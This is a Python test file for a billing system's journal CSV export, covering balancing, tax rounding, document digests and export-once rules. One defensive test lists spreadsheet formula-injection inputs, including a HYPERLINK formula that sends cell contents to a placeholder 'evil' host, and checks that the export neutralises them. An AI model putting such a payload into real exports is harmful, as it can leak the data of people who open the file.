"""The journal balances, is exported once and stays byte for byte."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from billing.documents import Document, DocumentLine, Party, digest, totals
from billing.exports import journal_csv
from billing.exports.csv_rows import csv_bytes
from billing.models import ExportBatch, ExportedInvoice, Invoice
from billing.services import credit_invoice, export_invoices
from core.errors import DomainError
from tests.factories.billing import drafted, handling, issued
from tests.factories.partners import internal

ISSUER = Party("Waymark Logistics", "Quay 1", "")


def document(*lines: DocumentLine, currency: str = "EUR", name: str = "Acme") -> Document:
    return Document(
        "invoice", "INV000001", date(2026, 11, 22), date(2026, 12, 22), currency, "", ISSUER, Party(name, "", ""),
        "ACME", lines,
    )  # fmt: skip


def line(net: str, percent: str = "19", description: str = "Handling") -> DocumentLine:
    return DocumentLine("S-1", "HANDLING", description, Decimal(1), Decimal(net), Decimal(net), Decimal(percent))


def test_the_journal_of_an_invoice() -> None:
    assert journal_csv.render([document(line("100.00"), line("50.50", "0", "Customs"))]).decode() == (
        "date,document,kind,credits,customer,customer_name,account,charge_code,tax_percent,debit,credit,currency,text\r\n"
        "2026-11-22,INV000001,invoice,,ACME,Acme,receivable,,,169.50,0.00,EUR,INV000001\r\n"
        "2026-11-22,INV000001,invoice,,ACME,Acme,revenue,HANDLING,19,0.00,100.00,EUR,S-1 Handling\r\n"
        "2026-11-22,INV000001,invoice,,ACME,Acme,revenue,HANDLING,0,0.00,50.50,EUR,S-1 Customs\r\n"
        "2026-11-22,INV000001,invoice,,ACME,Acme,output_tax,,19,0.00,19.00,EUR,INV000001\r\n"
    )


@given(
    st.lists(
        st.tuples(
            st.decimals(min_value=-(10**9), max_value=10**9, places=2),
            st.decimals(min_value=0, max_value=100, places=2),
        ),
        min_size=1,
        max_size=12,
    )
)
def test_debits_equal_credits_in_every_document(pairs: list[tuple[Decimal, Decimal]]) -> None:
    one = document(*(line(str(net), str(percent)) for net, percent in pairs))
    assert sum(posting.amount for posting in journal_csv.postings(one)) == 0
    for sums in journal_csv.balance([one, one]).values():
        assert sums["debit"] == sums["credit"]


def test_tax_is_rounded_once_a_rate_half_up_and_mirrored_below_zero() -> None:
    nets = [(Decimal("0.50"), Decimal(7)), (Decimal("0.50"), Decimal(7)), (Decimal("0.50"), Decimal(19))]
    sums = totals(nets, "EUR")
    assert [(g.percent, g.net, g.tax) for g in sums.groups] == [
        (7, Decimal("1.00"), Decimal("0.07")), (19, Decimal("0.50"), Decimal("0.10")),
    ]  # fmt: skip
    assert (sums.net, sums.tax, sums.total) == (Decimal("1.50"), Decimal("0.17"), Decimal("1.67"))
    assert totals([(-net, percent) for net, percent in nets], "EUR").total == -sums.total
    assert totals([], "JPY").total == 0


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", " =1", '=HYPERLINK("http://evil?"&A1)']
)
def test_text_that_could_be_a_formula_is_defused(text: str) -> None:
    _, row = csv.reader(io.StringIO(csv_bytes(["x"], [[text]]).decode(), newline=""))
    assert row == [f"'{text}"]


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert csv_bytes(["a", "b", "c"], [[Decimal("-1.50"), "a=b", ""]]) == b"a,b,c\r\n-1.50,a=b,\r\n"


def test_the_seal_is_over_every_fact_and_over_values_not_their_spelling() -> None:
    one = document(line("100.00"))
    assert digest(one) == digest(document(line("100.000")))
    others = [document(line("100.01")), document(line("100.00", "7")), document(line("100.00"), name="Other")]
    assert len({digest(one), *map(digest, others)}) == 4


@pytest.mark.django_db
def test_a_batch_is_frozen_balanced_and_in_order() -> None:
    handling("33.33")
    first, second = issued("S-1"), issued("S-2", "S-3")
    note = credit_invoice(first, reason="Wrong", by=None)
    clerk = internal()
    batch = export_invoices(Invoice.objects.all(), by=clerk)
    batch.refresh_from_db()
    content = bytes(batch.content)
    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert (batch.created_by, batch.rows, batch.digest) == (clerk, len(rows), hashlib.sha256(content).hexdigest())
    assert list(dict.fromkeys(row["document"] for row in rows)) == [note.number, first.number, second.number]
    assert (rows[0]["credit"], rows[0]["credits"], rows[0]["debit"]) == ("39.66", first.number, "0.00")
    assert batch.totals == {"EUR": {"debit": "158.65", "credit": "158.65"}}
    assert sum(Decimal(row["debit"]) for row in rows) == Decimal("158.65")
    assert ExportedInvoice.objects.filter(batch=batch).count() == 3


@pytest.mark.django_db
def test_a_document_is_exported_once_and_drafts_never() -> None:
    handling()
    done = issued("S-1")
    draft = drafted("S-2")
    export_invoices([done, draft], by=None)
    with pytest.raises(DomainError) as refused:
        export_invoices([done, draft], by=None)
    assert refused.value.code == "nothing_to_export"
    assert [one.invoice for one in ExportedInvoice.objects.all()] == [done]
    later = export_invoices(Invoice.objects.filter(pk__in=[done.pk, issued("S-3").pk]), by=None)
    assert (later.documents.count(), ExportBatch.objects.count()) == (1, 2)
